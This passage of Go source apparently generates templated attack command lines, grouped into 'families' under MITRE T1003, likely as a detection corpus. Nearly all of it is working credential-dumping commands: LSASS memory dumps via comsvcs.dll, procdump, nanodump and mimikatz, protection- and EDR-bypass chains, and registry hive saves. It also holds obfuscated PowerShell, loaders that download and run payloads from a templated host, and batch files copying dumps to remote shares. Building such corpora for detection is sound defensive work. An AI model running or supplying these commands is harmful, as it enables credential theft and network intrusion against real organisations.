			`$p = (Get-Process ('ls'+'ass')).Id; & rundll32 comsvcs.dll ('#'+'24') $p {{pstemp}}\{{dmp}} full`,
			`iex "rundll32 comsvcs.dll,MiniDump $((gps lsass).id) {{pstemp}}\{{dmp}} full"`,
			`Start-Process -WindowStyle Hidden rundll32 -ArgumentList ("C:\windows\system32\comsvcs.dll,#24 " + (Get-Process lsass).id + " {{pstemp}}\{{dmp}} full")`,
			`[Diagnostics.Process]::Start('rundll32.exe', "comsvcs.dll, MiniDump $((Get-Process lsass).Id) {{pstemp}}\{{dmp}} full")`,
			`$l = [Diagnostics.Process]::GetProcessesByName('lsass')[0].Id; cmd /c "rundll32 %windir%\system32\comsvcs.dll, MiniDump $l {{pstemp}}\{{dmp}} full"`,
			`& ([string]::Join('', [char[]](114,117,110,100,108,108,51,50))) comsvcs.dll, MiniDump (Get-Process lsass).Id {{pstemp}}\{{dmp}} full`),
		fam("cred/wsh-comsvcs-dump", c, "windows", Raw,
			`Set s = CreateObject("WScript.Shell"): s.Run "rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full", 0, True`,
			`var sh = new ActiveXObject("WScript.Shell"); sh.Run("rundll32.exe comsvcs.dll, MiniDump {{lsapid}} C:\\Windows\\Temp\\{{dmp}} full", 0, true);`,
			`CreateObject("WScript.Shell").Run "cmd /c reg save HKLM\SAM {{wtemp}}\{{samout}} /y", 0`,
			`GetObject("winmgmts:\\.\root\cimv2:Win32_Process").Create "C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}", Null, Null, pid`,
			`mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""rundll32 comsvcs.dll, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full"", 0:close")`,
			`new ActiveXObject("WScript.Shell").Exec("reg save HKLM\\SYSTEM C:\\Windows\\Temp\\{{sysout}} /y");`,
			`Set o = GetObject("winmgmts:{impersonationLevel=impersonate}!\\{{host}}\root\cimv2:Win32_Process"): o.Create "cmd /c reg save HKLM\SAM C:\Windows\Temp\{{samout}}", Null, Null, p`),
		fam("cred/nanodump-advanced-opts", c, "windows", Cmd,
			`{{crnano}} --shtinkering`,
			`{{crnano}} --fork --spoof-callstack --write {{wtemp}}\{{dmp}}`,
			`{{crnano}} --seclogon-leak-remote {{wtemp}}\{{rndexe}} --write {{wtemp}}\{{dmp}}`,
			`{{crnano}} --seclogon-duplicate --write {{wtemp}}\{{dmp}}`,
			`{{crnano}} --elevate-handle --duplicate --write {{wtemp}}\{{dmp}}{{| --valid}}`,
			`{{crnano}} --chunk-size {{1024|2048|512}} --write {{wtemp}}\{{dmp}}`,
			`nanodump_ppl_dump.x64.exe --write {{wtemp}}\{{dmp}}{{| --valid}}`,
			`nanodump_ppl_medic.x64.exe --write {{wtemp}}\{{dmp}} --valid`,
			`{{crnano}} --getpid`,
			`{{crnano}} --snapshot --write \\{{ip}}\{{crshare}}\{{dmp}}`,
			`{{crnano}} --pid {{lsapid}} --duplicate-elevate --write {{wtemp}}\{{dmp}}`,
			`{{crnano}} -sc -f -w {{wtemp}}\{{dmp}}`),
		fam("cred/handlekatz-dumpert-variants", c, "windows", Cmd,
			`HandleKatz.exe --pid:{{lsapid}} --outfile:{{wtemp}}\{{dmp}}`,
			`loader.exe --pid:{{lsapid}} --outfile:{{wtemp}}\{{lsadmp}}`,
			`{{wtemp}}\{{rndexe}} --pid:{{lsapid}} --outfile:{{wtemp}}\{{lsadmp}}`,
			`Outflank-Dumpert.exe & move C:\Windows\Temp\dumpert.dmp {{wtemp}}\{{dmp}}`,
			`rundll32.exe {{wtemp}}\Outflank-Dumpert-DLL.dll,Dump`,
			`{{rundll32}} {{wtemp}}\{{crdll}},Dump & copy C:\Windows\Temp\dumpert.dmp \\{{ip}}\{{crshare}}\`,
			`python3 Decoder.py -input {{dmp}} -output {{word}}.dmp`),
		fam("cred/ppl-bypass-then-dump", c, "windows", Cmd,
			`PPLKiller.exe /installDriver {{amp}} PPLKiller.exe /disablePPL {{lsapid}} {{amp}} {{procdump}} -accepteula -ma lsass.exe {{wtemp}}\{{dmp}}`,
			`PPLcontrol.exe unprotect {{lsapid}} {{amp}} {{procdump}} -ma {{lsapid}} {{wtemp}}\{{lsadmp}}`,
			`PPLFault.exe {{|-v }}{{lsapid}} {{wtemp}}\{{lsadmp}}`,
			`PPLmedic.exe dump {{lsapid}} {{wtemp}}\{{lsadmp}}`,
			`{{mimikatz}} "!+" "!processprotect /pid:{{lsapid}} /remove" "privilege::debug" "sekurlsa::logonpasswords" "!-" exit`,
			`PPLBlade.exe --mode dump --name lsass.exe --handle procexp --obfuscate --dumpmode network --network raw --ip {{ip}} --port {{port}}`,
			`PPLBlade.exe --mode dump --name lsass.exe --dumpname {{wtemp}}\{{dmp}}{{| --obfuscate}}`,
			`PPLKiller.exe /disableLSAProtection {{amp}} {{rundll32}} {{comsvcs}}, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`PPLdump.exe -d lsass.exe {{wtemp}}\{{dmp}}`,
			`sc create {{word}} binPath= {{wtemp}}\RTCore64.sys type= kernel & PPLKiller.exe /disableLSAProtection & {{procdump}} -accepteula -ma lsass.exe {{wtemp}}\{{dmp}}`),
		fam("cred/malseclogon-dump", c, "windows", Cmd,
			`MalSeclogon.exe -p {{lsapid}} -d 1`,
			`MalSeclogon.exe -p {{lsapid}} -d 1 -o {{wtemp}}\{{dmp}}`,
			`MalSeclogon.exe -p {{lsapid}} -d 2`,
			`{{wtemp}}\{{rndexe}} -p {{lsapid}} -d 1 -l`,
			`for /f "tokens=2" %i in ('tasklist ^| findstr lsass') do MalSeclogon.exe -p %i -d 1`,
			`{{crnano}} --seclogon-leak-local --write {{wtemp}}\{{dmp}}`),
		fam("cred/edr-bypass-dumpers", c, "windows", Cmd,
			`EDRSandblast.exe dump -o {{wtemp}}\{{dmp}}`,
			`EDRSandblast.exe --kernelmode dump -o {{wtemp}}\{{dmp}}`,
			`EDRSandblast.exe --usermode --kernelmode dump --unhook-method 3 -o {{wtemp}}\{{dmp}}`,
			`EDRSandblast.exe dump -i --nt-offsets NtoskrnlOffsets.csv -o {{wtemp}}\{{dmp}}`,
			`{{rndexe}} --kernelmode dump -o {{wtemp}}\{{dmp}}`),
		fam("cred/misc-lsass-dumper-tools", c, "windows", Cmd,
			`RustiveDump.exe{{| {{wtemp}}\{{dmp}}}}`,
			`DumpNParse.exe{{| {{wtemp}}\{{dmp}}}}`,
			`ShadowDumper.exe{{| -o {{wtemp}}\{{dmp}}}}`,
			`PostDump.exe -o {{wtemp}}\{{dmp}}{{| --asr| --driver}}`,
			`LSASS_Shtinkering.exe`,
			`LsassDumper.exe {{wtemp}}\{{dmp}}`,
			`SharpMiniDump.exe {{wtemp}}\{{dmp}}`,
			`lsass_dumper.exe -o {{wtemp}}\{{dmp}}`,
			`Dumpy.exe dump -k {{word}} -o {{wtemp}}\{{dmp}}`,
			`ReflectDump.exe {{lsapid}} {{wtemp}}\{{lsadmp}}`),
		fam("cred/silentprocessexit-ps", c, "windows", PS,
			`New-Item -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe' -Force; Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe' -Name ReportingMode -Value 2`,
			`New-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe' -Name LocalDumpFolder -Value '{{pstemp}}' -PropertyType String -Force`,
			`Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\lsass.exe' -Name GlobalFlag -Value 0x200 -Type DWord`,
			`New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\Windows Error Reporting\LocalDumps\lsass.exe' -Name DumpType -Value 2 -PropertyType DWord -Force`,
			`$k = 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe'; New-Item $k -Force | Out-Null; Set-ItemProperty $k ReportingMode 2; Set-ItemProperty $k LocalDumpFolder '{{pstemp}}'; Set-ItemProperty $k DumpType 2`,
			`New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe' -Name DumpType -Value 2 -PropertyType DWORD -Force`),
		fam("cred/wer-localdumps-lsass", c, "windows", Cmd,
			`{{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows\Windows Error Reporting\LocalDumps\lsass.exe" /v DumpFolder /t REG_EXPAND_SZ /d {{wtemp}} /f`,
			`{{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows\Windows Error Reporting\LocalDumps\lsass.exe" /v DumpCount /t REG_DWORD /d {{n}} /f`,
			`{{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v ReportingMode /t REG_DWORD /d 2 /f {{amp}} {{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v LocalDumpFolder /t REG_SZ /d {{wtemp}} /f`,
			`{{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v ReportingMode /t REG_DWORD /d 0x2 /f`,
			`{{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\lsass.exe" /v GlobalFlag /t REG_DWORD /d 0x200 /f`,
			`{{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe" /v DumpType /t REG_DWORD /d 2 /f {{amp}} {{reg}} add "{{hklm}}\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\lsass.exe" /v GlobalFlag /t REG_DWORD /d 512 /f`),
		fam("cred/debugger-dump-variants", c, "windows", Cmd,
			`ntsd -p {{lsapid}} -c ".dump /ma /o {{wtemp}}\{{lsadmp}}; qd"`,
			`"C:\Program Files\Windows Kits\10\Debuggers\x64\windbg.exe" -pv -pn lsass.exe -c ".dump /mfh {{wtemp}}\{{dmp}}; q"`,
			`WinDbgX.exe -pn lsass.exe -c ".dump /ma {{wtemp}}\{{dmp}}; qd"`,
			`cdb.exe -pvr -pn {{lsass}} -c ".dump /ma /u {{wtemp}}\{{dmp}}; qd"`,
			`for /f "tokens=2" %i in ('tasklist ^| findstr lsass') do cdb -pv -p %i -c ".dump /ma {{wtemp}}\{{dmp}};q"`,
			`"C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\ntsd.exe" -pv -pn lsass.exe -c ".dump /f {{wtemp}}\{{dmp}};q"`),
		fam("cred/sharpdump-variants", c, "windows", Cmd,
			`SharpDump.exe {{lsapid}}`,
			`SharpDump.exe {{amp}} move C:\Windows\Temp\debug{{lsapid}}.bin {{wtemp}}\debug.gz`,
			`SharpDump.exe {{amp}} copy C:\Windows\Temp\debug{{lsapid}}.bin \\{{ip}}\{{crshare}}\`,
			`{{wtemp}}\SharpDump.exe {{amp}} dir C:\Windows\Temp\debug*.bin`,
			`{{rndexe}} {{amp}} copy C:\Windows\Temp\debug{{lsapid}}.bin {{wtemp}}\{{word}}.gz`,
			`SharpDump{{|.exe}} {{lsapid}} {{amp}} certutil -encode C:\Windows\Temp\debug{{lsapid}}.bin {{wtemp}}\{{word}}.txt`),
		fam("cred/sharpdump-output-parse", c, "any", Sh,
			`mv debug{{lsapid}}.bin debug.gz && gunzip debug.gz && pypykatz lsa minidump debug`,
			`gunzip -c debug{{lsapid}}.bin > {{crloot}}/lsass.dmp && pypykatz lsa minidump {{crloot}}/lsass.dmp`,
			`zcat debug{{lsapid}}.bin > {{dmp}}; python3 -m pypykatz lsa minidump {{dmp}}`,
			`cp debug{{lsapid}}.bin d.gz && gzip -d d.gz && pypykatz lsa minidump d -o {{crloot}}/{{host}}.txt`),
		fam("cred/powersharppack-katz", c, "windows", PS,
			`PowerSharpPack -SharpKatz -Command "--Command {{logonpasswords|msv|wdigest|ekeys|kerberos}}"`,
			`PowerSharpPack -SafetyKatz`,
			`Invoke-SharpKatz -Command "--Command {{msv|wdigest|ekeys|logonpasswords|kerberos}}"`,
			`iex (New-Object Net.WebClient).DownloadString('{{crdl}}/PowerSharpPack.ps1'); PowerSharpPack -SharpDump`,
			`Invoke-SafetyKatz`,
			`Invoke-BetterSafetyKatz`,
			`PowerSharpPack -SharpSecDump -Command "-target={{host}} -u={{user}} -p={{pass}} -d={{domain}}"`,
			`IEX (iwr {{crdl}}/Invoke-SharpKatz.ps1 -UseBasicParsing); Invoke-SharpKatz`),
		fam("cred/ps-reflective-assembly-dumpers", c, "windows", PS,
			`$a = [Reflection.Assembly]::Load([IO.File]::ReadAllBytes('{{pstemp}}\SharpKatz.exe')); $a.EntryPoint.Invoke($null, @(,[string[]]@('--Command','logonpasswords')))`,
			`[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('{{crdl}}/SafetyKatz.exe')) | Out-Null; [SafetyKatz.Program]::Main(@())`,
			`$b = (iwr {{crdl}}/SharpDump.exe -UseBasicParsing).Content; [Reflection.Assembly]::Load($b) | Out-Null; [SharpDump.Program]::Main(@('{{lsapid}}'))`,
			`[System.Reflection.Assembly]::Load([Convert]::FromBase64String($k)).GetType('SharpKatz.Program').GetMethod('Main').Invoke($null, @(,[string[]]@('--Command','ekeys')))`,
			`$asm = [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('{{crdl}}/SharpSecDump.exe')); [SharpSecDump.Program]::Main(@('-target={{host}}'))`,
			`[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("{{pstemp}}\BetterSafetyKatz.exe")).EntryPoint.Invoke($null, @(,[string[]]@()))`),
		fam("cred/ps-mimikatz-loaders", c, "windows", PS,
			`$b = [IO.File]::ReadAllBytes('{{pstemp}}\mimikatz.exe'); Invoke-ReflectivePEInjection -PEBytes $b -ExeArgs '"privilege::debug" "{{crkcmd}}" exit'`,
			`Invoke-ReflectivePEInjection -PEBytes (iwr {{crdl}}/m.exe -UseBasicParsing).Content -ExeArgs "sekurlsa::logonpasswords exit"`,
			`iex (irm {{crdl}}/Invoke-Mimikatz.ps1); Invoke-Mimikatz -Command '"privilege::debug" "{{crkcmd}}"'`,
			`Invoke-Mimikatz -Command '"privilege::debug" "token::elevate" "lsadump::cache" "exit"'`,
			`Invoke-Mimikatz -Command '"sekurlsa::minidump {{pstemp}}\{{dmp}}" "sekurlsa::logonpasswords"'`,
			`IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((iwr {{crdl}}/k.txt -UseBasicParsing).Content))); Invoke-Katz -Command "{{crkcmd}}"`,
			`Import-Module {{pstemp}}\Invoke-Mimikatz.ps1; Invoke-Mimikatz -Command "privilege::debug {{crkcmd}} exit" | Out-File {{pstemp}}\{{word}}.txt`),
		fam("cred/mimikatz-sekurlsa-submodules", c, "windows", Cmd,
			`{{mimikatz}} {{crkpre}} "sekurlsa::{{kerberos|tspkg|livessp|ssp|credman|dpapi|msv|wdigest|ekeys|cloudap}}" exit`,
			`{{mimikatz}} "privilege::debug" "sekurlsa::logonpasswords" "sekurlsa::ekeys" "exit" >> {{wtemp}}\{{word}}.txt`,
			`{{mimikatz}} "privilege::debug" "log {{wtemp}}\{{word}}.log" "sekurlsa::logonpasswords full" "sekurlsa::tickets" exit`,
			`{{mimikatz}} privilege::debug "sekurlsa::msv" "sekurlsa::wdigest" "sekurlsa::kerberos" exit`,
			`{{mimikatz}} "privilege::debug" "sekurlsa::process" "sekurlsa::logonpasswords" exit`,
			`{{mimikatz}} "{{crkcmd}}" "exit" > \\{{ip}}\{{crshare}}\{{host}}.txt`,
			`echo sekurlsa::logonpasswords | {{mimikatz}}`),
		fam("cred/mimikatz-offline-secrets-cache", c, "windows", Cmd,
			`{{mimikatz}} "lsadump::secrets /system:{{wtemp}}\{{sysout}} /security:{{wtemp}}\{{secout}}" exit`,
			`{{mimikatz}} "lsadump::cache /system:{{wtemp}}\{{sysout}} /security:{{wtemp}}\{{secout}}" exit`,
			`{{mimikatz}} "lsadump::sam {{wtemp}}\{{sysout}} {{wtemp}}\{{samout}}" exit`,
			`{{mimikatz}} "lsadump::sam /system:\\{{host}}\{{crshare}}\{{sysout}} /sam:\\{{host}}\{{crshare}}\{{samout}}" exit`,
			`{{mimikatz}} "sekurlsa::minidump \\{{host}}\{{crshare}}\{{dmp}}" "sekurlsa::logonpasswords full" exit`,
			`{{mimikatz}} "log {{wtemp}}\{{word}}.txt" "lsadump::sam /system:{{sysout}} /sam:{{samout}}" "lsadump::secrets /system:{{sysout}} /security:{{secout}}" exit`),
		fam("cred/mimikatz-console-variants", c, "windows", Raw,
			`mimikatz # {{crkcmd}}`,
			`mimikatz # privilege::debug
mimikatz # {{crkcmd}}`,
			`{{crkcmd}}`,
			`mimikatz # sekurlsa::minidump {{wtemp}}\{{dmp}}
mimikatz # sekurlsa::logonPasswords full`,
			`mimikatz # lsadump::secrets /system:{{wtemp}}\{{sysout}} /security:{{wtemp}}\{{secout}}`,
			`mimikatz # lsadump::cache /system:{{sysout}} /security:{{secout}}`,
			`mimikatz # log {{wtemp}}\{{word}}.log
mimikatz # {{crkcmd}}`,
			`mimikatz(commandline) # {{crkcmd}}`,
			`mimikatz # !+
mimikatz # !processprotect /process:lsass.exe /remove
mimikatz # {{crkcmd}}`),
		fam("cred/renamed-mimikatz-args", c, "windows", Cmd,
			`{{rndexe}} "privilege::debug" "{{crkcmd}}" "exit"`,
			`{{wtemp}}\{{rndexe}} privilege::debug sekurlsa::msv exit`,
			`{{rndexe}} "token::elevate" "lsadump::sam" exit`,
			`{{rndexe}} "lsadump::secrets" "exit" > {{wtemp}}\{{word}}.txt`,
			`{{rndexe}} "sekurlsa::minidump {{dmp}}" "sekurlsa::logonpasswords" exit`,
			`{{wtemp}}\{{rndexe}} "log {{word}}.log" "privilege::debug" "lsadump::cache" "exit"`,
			`C:\Users\{{user}}\AppData\Local\Temp\{{rndexe}} "{{crkcmd}}" exit`),
		fam("cred/renamed-dumper-args", c, "windows", Cmd,
			`{{wtemp}}\{{rndexe}} --write {{wtemp}}\{{dmp}} --valid`,
			`{{rndexe}} --pid:{{lsapid}} --outfile:{{wtemp}}\{{lsadmp}}`,
			`{{rndexe}} -target={{host}}{{| -u={{user}} -p={{pass}}}}`,
			`{{rndexe}} --Command {{logonpasswords|msv|ekeys|wdigest}}`,
			`{{wtemp}}\{{rndexe}} lsass.exe {{wtemp}}\{{dmp}}`,
			`{{rndexe}} /FileNamePath:{{crsam}} /OutputPath:{{wtemp}}`,
			`{{rndexe}} -sam {{samout}} -system {{sysout}} LOCAL`,
			`{{rndexe}} --mode dump --name lsass.exe{{| --obfuscate}}`,
			`{{rndexe}} -ma {{lsapid}} {{wtemp}}\{{lsadmp}} -accepteula`,
			`{{rndexe}} --fork --valid -w {{wtemp}}\{{dmp}}`),
		fam("cred/pypykatz-live-windows", c, "windows", Cmd,
			`pypykatz{{|.exe}} live lsa{{| -o {{wtemp}}\{{word}}.txt| --json}}`,
			`pypykatz.exe live registry{{| -o {{wtemp}}\{{word}}.txt}}`,
			`pypykatz live lsa --method {{procopen|handledup}}`,
			`python -m pypykatz live lsa --json -o {{wtemp}}\{{word}}.json`,
			`{{wtemp}}\pypykatz.exe live lsa -g -o {{wtemp}}\{{word}}.txt`,
			`py -3 -m pypykatz live registry --json`),
		fam("cred/pypykatz-minidump-parse-options", c, "any", Sh,
			`pypykatz lsa minidump -d {{crloot}}/ -o {{crloot}}/{{word}}.json --json`,
			`pypykatz lsa -k {{crloot}}/tickets minidump {{dmp}}`,
			`pypykatz lsa -g minidump {{crloot}}/{{dmp}} -o {{crloot}}/{{host}}.tsv`,
			`pypykatz lsa -t {{msv|wdigest|kerberos|all}} minidump {{dmp}}`,
			`./restore_signature {{dmp}} && pypykatz lsa minidump {{dmp}}`,
			`bash scripts/restore_signature {{crloot}}/{{dmp}}; python3 -m pypykatz lsa minidump {{crloot}}/{{dmp}} -o {{word}}.txt`,
			`for f in {{crloot}}/*.dmp; do pypykatz lsa minidump "$f" -o "$f.txt"; done`,
			`pypykatz lsa minidump -d -r {{crloot}}/ -o creds.json --json`),
		fam("cred/ps-invoke-lsass-dump-function", c, "windows", Script,
			`function Invoke-{{crcls}} {
    param([string]$Out = "{{pstemp}}\{{dmp}}")
    $id = (Get-Process lsass).Id
    Start-Process -FilePath rundll32.exe -ArgumentList "C:\Windows\System32\comsvcs.dll, MiniDump $id $Out full" -Wait -WindowStyle Hidden
    Get-Item $Out
}
Invoke-{{crcls}}`,
			`$lsass = Get-Process -Name lsass
$out = Join-Path {{pstemp}} "{{dmp}}"
& "$env:windir\System32\rundll32.exe" "$env:windir\System32\comsvcs.dll," MiniDump $lsass.Id $out full
Start-Sleep -Seconds 5
Compress-Archive -Path $out -DestinationPath "$out.zip" -Force`,
			`$ErrorActionPreference = 'SilentlyContinue'
if (-not ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)) { exit }
$p = Get-Process lsass
& {{pstemp}}\{{rndexe}} -accepteula -ma $p.Id {{pstemp}}\{{dmp}}
Write-Output "dumped $($p.Id)"`),
		fam("cred/ps-hive-save-script", c, "windows", Script,
			`$out = "{{pstemp}}\{{word}}"
New-Item -ItemType Directory -Path $out -Force | Out-Null
foreach ($h in @('SAM','SYSTEM','SECURITY')) {
    reg.exe save "HKLM\$h" "$out\$h.{{hiv|save|bak}}" /y | Out-Null
}
Compress-Archive -Path "$out\*" -DestinationPath "$out.zip" -Force`,
			`$hives = 'sam','system','security'
$dst = '\\{{ip}}\{{crshare}}\' + $env:COMPUTERNAME
mkdir $dst -Force | Out-Null
$hives | ForEach-Object {
    Start-Process reg.exe -ArgumentList "save HKLM\$_ $dst\$_ /y" -Wait -WindowStyle Hidden
}`,
			`try {
    & reg save HKLM\SAM {{pstemp}}\{{samout}} /y
    & reg save HKLM\SYSTEM {{pstemp}}\{{sysout}} /y
} catch {
    Write-Host "[-] reg save failed: $_"
}`),
		fam("cred/ps-dbghelp-reflection-obfuscated", c, "windows", Script,
			`$w = [PSObject].Assembly.GetType(('System.Management.Automation.'+'Windows'+'ErrorReporting'))
$n = $w.GetNestedType('NativeMethods', 'NonPublic')
$m = $n.GetMethod(('MiniDump'+'WriteDump'), [Reflection.BindingFlags]'NonPublic, Static')
$t = Get-Process ('lsa'+'ss')
$f = New-Object IO.FileStream('{{pstemp}}\{{dmp}}', [IO.FileMode]::Create)
$r = $m.Invoke($null, @($t.Handle, [uint32]$t.Id, $f.SafeFileHandle, [uint32]2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero))
$f.Close()`,
			`function Out-{{crcls}} {
    param($Process = (Get-Process lsass), $Path = '{{pstemp}}')
    $WER = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting')
    $Native = $WER.GetNestedType('NativeMethods', 'NonPublic')
    $Dump = $Native.GetMethod('MiniDumpWriteDump', ([Reflection.BindingFlags]'NonPublic, Static'))
    $File = New-Object IO.FileStream("$Path\$($Process.Name)_$($Process.Id).dmp", [IO.FileMode]::Create)
    $Dump.Invoke($null, @($Process.Handle, [uint32]$Process.Id, $File.SafeFileHandle, [uint32]2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero)) | Out-Null
    $File.Close()
}
Out-{{crcls}}`,
			`$a = [AppDomain]::CurrentDomain.GetAssemblies() | ? { $_.Location -like '*Management.Automation*' }
$t = $a.GetType('System.Management.Automation.WindowsErrorReporting+NativeMethods')
$mdwd = $t.GetMethod('MiniDumpWriteDump', [Reflection.BindingFlags]40)
$l = [Diagnostics.Process]::GetProcessesByName('lsass')[0]
$fs = [IO.File]::Create("{{pstemp}}\{{dmp}}")
$mdwd.Invoke($null, @($l.Handle, [uint32]$l.Id, $fs.SafeFileHandle, [uint32]2, [IntPtr]0, [IntPtr]0, [IntPtr]0))
$fs.Dispose()`),
		fam("cred/ps-csharp-openprocess-minidump", c, "windows", Script,
			`Add-Type -TypeDefinition @"
using System;
using System.Diagnostics;
using System.IO;
using System.Runtime.InteropServices;
public static class {{crcls}} {
    [DllImport("kernel32.dll")] public static extern IntPtr OpenProcess(uint access, bool inherit, int pid);
    [DllImport("dbghelp.dll")] public static extern bool MiniDumpWriteDump(IntPtr h, int pid, IntPtr f, int type, IntPtr e, IntPtr u, IntPtr c);
    public static void Run(string path) {
        Process.EnterDebugMode();
        Process p = Process.GetProcessesByName("lsass")[0];
        IntPtr h = OpenProcess(0x1F0FFF, false, p.Id);
        using (FileStream fs = new FileStream(path, FileMode.Create)) {
            MiniDumpWriteDump(h, p.Id, fs.SafeFileHandle.DangerousGetHandle(), 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero);
        }
    }
}
"@
[{{crcls}}]::Run("{{pstemp}}\{{dmp}}")`,
			`$src = @"
using System; using System.Runtime.InteropServices;
public class {{crcls}} {
  [DllImport("kernel32.dll", SetLastError=true)] public static extern IntPtr OpenProcess(int a, bool i, int p);
  [DllImport("Dbgcore.dll", SetLastError=true)] public static extern bool MiniDumpWriteDump(IntPtr hProc, int pid, Microsoft.Win32.SafeHandles.SafeFileHandle hFile, int t, IntPtr a, IntPtr b, IntPtr c);
}
"@
Add-Type $src
$pid_l = (Get-Process lsass).Id
$h = [{{crcls}}]::OpenProcess(0x0410, $false, $pid_l)
$fs = [IO.File]::Open("{{pstemp}}\{{dmp}}", 'Create')
[{{crcls}}]::MiniDumpWriteDump($h, $pid_l, $fs.SafeFileHandle, 0x2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero)
$fs.Close()`),
		fam("cred/ps-psscapturesnapshot-dump", c, "windows", Script,
			`Add-Type @"
using System; using System.Runtime.InteropServices;
public class {{crcls}} {
  [DllImport("kernel32.dll")] public static extern int PssCaptureSnapshot(IntPtr ProcessHandle, uint CaptureFlags, uint ThreadContextFlags, out IntPtr SnapshotHandle);
  [DllImport("kernel32.dll")] public static extern IntPtr OpenProcess(uint a, bool b, int pid);
  [DllImport("dbghelp.dll")] public static extern bool MiniDumpWriteDump(IntPtr h, int pid, IntPtr f, int t, IntPtr e, IntPtr u, IntPtr cb);
}
"@
$l = Get-Process lsass
$h = [{{crcls}}]::OpenProcess(0x1FFFFF, $false, $l.Id)
$snap = [IntPtr]::Zero
[{{crcls}}]::PssCaptureSnapshot($h, 0x1E9, 0, [ref]$snap) | Out-Null
$f = [IO.File]::Create('{{pstemp}}\{{dmp}}')
[{{crcls}}]::MiniDumpWriteDump($snap, $l.Id, $f.SafeFileHandle.DangerousGetHandle(), 2, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero)
$f.Close()`,
			`$sig = '[DllImport("kernel32.dll")] public static extern int PssCaptureSnapshot(IntPtr p, int f, int t, out IntPtr s); [DllImport("dbghelp.dll")] public static extern bool MiniDumpWriteDump(IntPtr h, uint id, IntPtr f, uint t, IntPtr e, IntPtr u, IntPtr c);'
$k = Add-Type -MemberDefinition $sig -Name {{crcls}} -Namespace {{crcls2}} -PassThru
$p = [Diagnostics.Process]::GetProcessesByName('lsass')[0]
$s = [IntPtr]::Zero; $k::PssCaptureSnapshot($p.Handle, 0x1E9, 0, [ref]$s) | Out-Null
$fs = New-Object IO.FileStream('{{pstemp}}\{{dmp}}', 'Create')
$k::MiniDumpWriteDump($s, [uint32]$p.Id, $fs.SafeFileHandle.DangerousGetHandle(), 2, 0, 0, 0)`),
	}
}

// credMoreScripts covers script files, WSH and launch chains written by
// hand (batch files, services, tasks, SQL, DCOM).
func credMoreScripts() []Family {
	c := T1003
	return []Family{
		fam("cred/batch-file-lsass-dump", c, "windows", Raw,
			`@echo off
for /f "tokens=2" %%i in ('tasklist ^| findstr /i lsass') do set PID=%%i
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %PID% {{wtemp}}\{{dmp}} full`,
			`@echo off
cd /d {{wtemp}}
{{procdump}} -accepteula -ma lsass.exe {{dmp}} >nul 2>&1
copy {{dmp}} \\{{ip}}\{{crshare}}\%COMPUTERNAME%.dmp`,
			`@echo off
setlocal
for /f "tokens=2 delims=," %%a in ('tasklist /fi "imagename eq lsass.exe" /fo csv /nh') do set P=%%~a
{{rundll32}} {{comsvcs}} #24 %P% {{wtemp}}\{{dmp}} full
endlocal`,
			`:: dump
@echo off
{{rndexe}} -accepteula -ma {{lsapid}} {{wtemp}}\{{lsadmp}}
exit /b 0`),
		fam("cred/batch-file-hive-save", c, "windows", Raw,
			`@echo off
reg save HKLM\SAM {{wtemp}}\{{samout}} /y >nul
reg save HKLM\SYSTEM {{wtemp}}\{{sysout}} /y >nul
reg save HKLM\SECURITY {{wtemp}}\{{secout}} /y >nul`,
			`@echo off
set OUT=\\{{ip}}\{{crshare}}\%COMPUTERNAME%
mkdir %OUT%
for %%h in (SAM SYSTEM SECURITY) do reg save HKLM\%%h %OUT%\%%h /y`,
			`@echo off
vssadmin create shadow /for=C:
copy {{shadow}}\Windows\System32\config\SAM {{wtemp}}\{{samout}}
copy {{shadow}}\Windows\System32\config\SYSTEM {{wtemp}}\{{sysout}}`,
			`@echo off
esentutl /y /vss C:\Windows\System32\config\SAM /d {{wtemp}}\{{samout}}
esentutl /y /vss C:\Windows\System32\config\SYSTEM /d {{wtemp}}\{{sysout}}`),
		fam("cred/sc-service-dump", c, "windows", Cmd,
